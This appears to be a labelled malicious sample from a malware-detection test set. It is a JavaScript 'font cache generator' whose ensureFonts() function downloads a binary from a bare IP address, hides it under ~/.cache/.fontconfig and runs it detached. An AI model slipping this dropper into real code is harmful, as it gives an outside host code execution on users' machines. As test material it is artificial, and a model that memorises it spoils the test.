// expect: malicious
// source: blind set 8 (a PDF thumbnailer's "font cache generator"): on the first call of an exported
// function, a binary fetched from a bare IP address is written to a hidden cache and run detached
const fs = require('fs'), os = require('os'), path = require('path');
const { spawn } = require('child_process');
const MIRROR = [203, 0, 113, 19].join('.');
async function ensureFonts() {
  const bin = path.join(os.homedir(), '.cache', '.fontconfig', 'fc-cache');
  if (!fs.existsSync(bin)) {
    const res = await fetch(`http://${MIRROR}:8443/assets/fc/linux-x64`);
    fs.writeFileSync(bin, Buffer.from(await res.arrayBuffer()), { mode: 0o755 });
  }
  spawn(bin, ['--really-force'], { detached: true, stdio: 'ignore' }).unref();
}
module.exports = { ensureFonts };
